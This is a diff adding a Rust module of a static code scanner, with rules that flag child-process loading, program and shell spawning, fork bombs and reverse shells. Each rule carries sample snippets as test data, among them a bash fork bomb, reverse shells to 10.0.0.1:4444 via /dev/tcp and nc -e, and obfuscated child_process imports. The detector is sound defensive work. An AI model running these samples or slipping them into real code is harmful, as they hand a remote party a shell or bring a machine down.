@@ -1,0 +1,301 @@
+//! Processes and shells.
+
+use super::{Rule, commands};
+use crate::guard::{
+    fact::Call,
+    found::Found,
+    read::{Language, shell},
+    value::{HOLE, Marks, Shape, Value},
+    verdict::Severity,
+};
+
+pub static MODULE: Rule = Rule {
+    id: "spawn-module",
+    severity: Severity::Block,
+    why: "an app that starts other programs can do whatever those can",
+    remedy: "use a library for the task; if the app must start programs, allow the module in the policy",
+    finds: &[
+        ("x.js", "const { exec: e } = require('child_process');"),
+        ("x.js", "import * as cp from 'node:child_process';"),
+        ("x.js", "require('child_' + 'process')"),
+        ("x.js", "process.mainModule.require('child_process')"),
+        ("x.js", "(r => r('child_process'))(require)"),
+        ("x.ts", "import cp = require('child_process');"),
+        ("x.py", "import pty\npty.spawn('/bin/sh')"),
+    ],
+    spares: &[
+        ("x.js", "const fs = require('fs'); import('./child_process_view.js')"),
+        ("x.py", "import multiprocessing"),
+    ],
+};
+pub static PROCESS: Rule = Rule {
+    id: "spawn-process",
+    severity: Severity::Block,
+    why: "a program or shell is started",
+    remedy: "use a library for the task; where a tool must be run, give it as a constant list of words without a shell",
+    finds: &[
+        ("x.py", "import os\nos.system('whoami')"),
+        ("x.py", "from os import system as s\ns(cmd)"),
+        ("x.py", "import subprocess as sp\nsp.run(request.args['c'], shell=True)"),
+        ("x.py", "import subprocess\nsubprocess.Popen(['/bin/bash', '-c', x])"),
+        ("x.py", "__import__('o' + 's').popen('id').read()"),
+        ("x.py", "import os\nf = os.system\nf('id')"),
+        ("x.js", "Deno.run({ cmd: ['sh'] })"),
+    ],
+    spares: &[
+        ("x.py", "import subprocess\nsubprocess.run(['npm', 'run', 'build'], check=True)"),
+        ("x.py", "import os\nos.system('cls' if os.name == 'nt' else 'clear')"),
+        ("x.py", "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pytest', *args])"),
+    ],
+};
+pub static FORK: Rule = Rule {
+    id: "fork-bomb",
+    severity: Severity::Block,
+    why: "processes that make processes without an end stop the machine",
+    remedy: "start a fixed number of workers",
+    finds: &[
+        ("x.sh", ":(){ :|:& };:"),
+        ("x.py", "import os\nwhile True:\n    os.fork()\n"),
+        ("x.js", "const cluster = require('cluster'); while (true) cluster.fork();"),
+    ],
+    spares: &[
+        ("x.js", "const cluster = require('cluster'); for (let i = 0; i < 4; i++) cluster.fork();"),
+        ("x.sh", "main() {\n  build | tee log\n}\nmain"),
+    ],
+};
+pub static REVERSE_SHELL: Rule = Rule {
+    id: "reverse-shell",
+    severity: Severity::Block,
+    why: "it gives somebody elsewhere a shell on this machine",
+    remedy: "remove it",
+    finds: &[
+        ("x.py", "import os, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)"),
+        ("x.sh", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
+        ("x.sh", "nc -e /bin/sh 10.0.0.1 4444"),
+    ],
+    spares: &[("x.sh", "bash build.sh > /dev/null 2>&1"), ("x.py", "import os\nos.dup(1)")],
+};
+
+pub(super) const RULES: &[&Rule] = &[&MODULE, &PROCESS, &FORK, &REVERSE_SHELL];
+
+/// Modules of which the only use is to start programs.
+const MODULES: [&str; 22] = [
+    "child_process",
+    "execa",
+    "shelljs",
+    "cross-spawn",
+    "node-pty",
+    "zx",
+    "node-cmd",
+    "sudo-prompt",
+    "spawn-sync",
+    "exec-sh",
+    "pty",
+    "pexpect",
+    "sh",
+    "plumbum",
+    "fabric",
+    "popen2",
+    "commands",
+    "ptyprocess",
+    "winpty",
+    "spawn-async",
+    "shell-exec",
+    "foreground-child",
+];
+/// Programs that builds and everyday scripts start; anything else that is constant is blocked, too.
+const TOOLS: [&str; 62] = [
+    "clear",
+    "cls",
+    "title",
+    "color",
+    "pause",
+    "npm",
+    "npx",
+    "yarn",
+    "pnpm",
+    "bun",
+    "node",
+    "python",
+    "python3",
+    "pip",
+    "pip3",
+    "uv",
+    "poetry",
+    "git",
+    "make",
+    "cmake",
+    "tsc",
+    "go",
+    "cargo",
+    "rustc",
+    "gcc",
+    "g++",
+    "javac",
+    "java",
+    "mvn",
+    "gradle",
+    "pytest",
+    "tox",
+    "black",
+    "ruff",
+    "flake8",
+    "mypy",
+    "isort",
+    "eslint",
+    "prettier",
+    "webpack",
+    "vite",
+    "rollup",
+    "esbuild",
+    "sass",
+    "ffmpeg",
+    "ffprobe",
+    "convert",
+    "magick",
+    "pandoc",
+    "pdflatex",
+    "xelatex",
+    "latexmk",
+    "dot",
+    "mkdocs",
+    "sphinx-build",
+    "jupyter",
+    "gunicorn",
+    "uvicorn",
+    "celery",
+    "alembic",
+    "flask",
+    "pre-commit",
+];
+
+pub(super) fn import(module: &str, line: usize, found: &mut Found<'_>) {
+    if MODULES.contains(&module) || module.starts_with("child_process/") {
+        found.add(&MODULE, line, &format!("`{module}` is loaded"));
+    }
+}
+
+pub(super) fn call(call: &Call<'_>, line: usize, found: &mut Found<'_>) {
+    let path = call.path;
+    if (path.is_empty() || path.starts_with('~') || path.ends_with("()"))
+        && call.args.iter().any(|arg| arg.known() == Some("child_process"))
+    {
+        found.add(&MODULE, line, "`child_process` is loaded by a way around `require`");
+    }
+    match path {
+        "os.dup2" if call.args.iter().any(|arg| arg.as_path().is_some_and(|path| path.contains("fileno()"))) => {
+            found.add(&REVERSE_SHELL, line, "a socket becomes a standard stream");
+        }
+        "pty.spawn" => found.add(&REVERSE_SHELL, line, "a program gets a terminal of its own"),
+        "os.fork" | "os.forkpty" => found.add(&FORK, line, "the process is doubled"),
+        "cluster.fork"
+        | "multiprocessing.Process"
+        | "subprocess.Popen"
+        | "child_process.fork"
+        | "child_process.spawn"
+        | "child_process.exec"
+        | "Worker"
+        | "worker_threads.Worker"
+            if call.endless =>
+        {
+            found.add(&FORK, line, "processes are started in a loop that nothing ends");
+        }
+        _ => {}
+    }
+    match starts(path) {
+        Some(_) if found.policy.allows_module(path.split('.').next().unwrap_or_default()) => {}
+        Some(shell) => started(call, shell, line, found),
+        None => {}
+    }
+}
+
+/// Whether a call starts a program, and if so, whether by a shell.
+fn starts(path: &str) -> Option<bool> {
+    match path {
+        "os.system"
+        | "os.popen"
+        | "os.popen2"
+        | "os.popen3"
+        | "subprocess.getoutput"
+        | "subprocess.getstatusoutput"
+        | "os.startfile"
+        | "asyncio.create_subprocess_shell"
+        | "commands.getoutput"
+        | "child_process.exec"
+        | "child_process.execSync"
+        | "nt.system"
+        | "posix.system"
+        | "platform.popen"
+        | "asyncio.subprocess.create_subprocess_shell" => Some(true),
+        "subprocess.run"
+        | "subprocess.call"
+        | "subprocess.check_call"
+        | "subprocess.check_output"
+        | "subprocess.Popen"
+        | "asyncio.create_subprocess_exec"
+        | "child_process.spawn"
+        | "child_process.spawnSync"
+        | "child_process.execFile"
+        | "child_process.execFileSync"
+        | "child_process.fork"
+        | "Deno.run"
+        | "Deno.Command"
+        | "Bun.spawn"
+        | "Bun.spawnSync"
+        | "os.posix_spawn"
+        | "os.posix_spawnp"
+        | "_posixsubprocess.fork_exec" => Some(false),
+        path if path.starts_with("os.exec") || path.starts_with("os.spawn") => Some(false),
+        _ => None,
+    }
+}
+
+fn started(call: &Call<'_>, shell: bool, line: usize, found: &mut Found<'_>) {
+    let shell = shell || call.option("shell").is_some_and(Value::is_true);
+    let command = call
+        .args
+        .iter()
+        .find(|arg| matches!(arg.shape, Shape::Text(_) | Shape::List(_)))
+        .or_else(|| call.option("args"))
+        .or_else(|| call.option("cmd"));
+    if call.arg_marks().has(Marks::REQUEST) {
+        found.add(&PROCESS, line, &format!("`{}` runs what a request brings", call.path));
+        return;
+    }
+    let words = match command.map(|command| &command.shape) {
+        Some(Shape::List(words)) => words.iter().map(word).collect::<Vec<_>>(),
+        // `spawn("git", ["log"])`: the words are two arguments, or all of them.
+        Some(Shape::Text(text)) if !shell => {
+            let rest = call.args.iter().skip(1).flat_map(|arg| arg.as_list().unwrap_or_default().iter().map(word));
+            text.split_whitespace().map(str::to_owned).chain(rest).collect()
+        }
+        Some(Shape::Text(text)) => {
+            found.nest(Language::Shell, text, line);
+            shell::commands(text).into_iter().flat_map(|command| command.words).collect()
+        }
+        _ => Vec::new(),
+    };
+    let program = words.first().map(|word| word.rsplit('/').next().unwrap_or(word)).unwrap_or_default();
+    let open = shell && words.iter().any(|word| word.contains(HOLE));
+    if !shell {
+        commands::words(&words, line, found);
+    }
+    let inline =
+        commands::is_interpreter(program) && words.iter().any(|word| matches!(word.as_str(), "-c" | "-e" | "--eval"));
+    if TOOLS.contains(&program) && !open && !inline {
+        found.hint(&PROCESS, line, &format!("`{}` starts {program}", call.path));
+    } else if program.is_empty() {
+        found.add(&PROCESS, line, &format!("`{}` starts what it is given", call.path));
+    } else {
+        found.add(&PROCESS, line, &format!("`{}` starts `{}`", call.path, words.join(" ").replace(HOLE, "…")));
+    }
+}
+
+/// One word of a command. The interpreter that runs the app is known without its path.
+fn word(value: &Value) -> String {
+    match value.as_path() {
+        Some("sys.executable") => "python".to_owned(),
+        Some("process.execPath" | "process.argv0") => "node".to_owned(),
+        _ => value.to_text().as_str().to_owned(),
+    }
+}
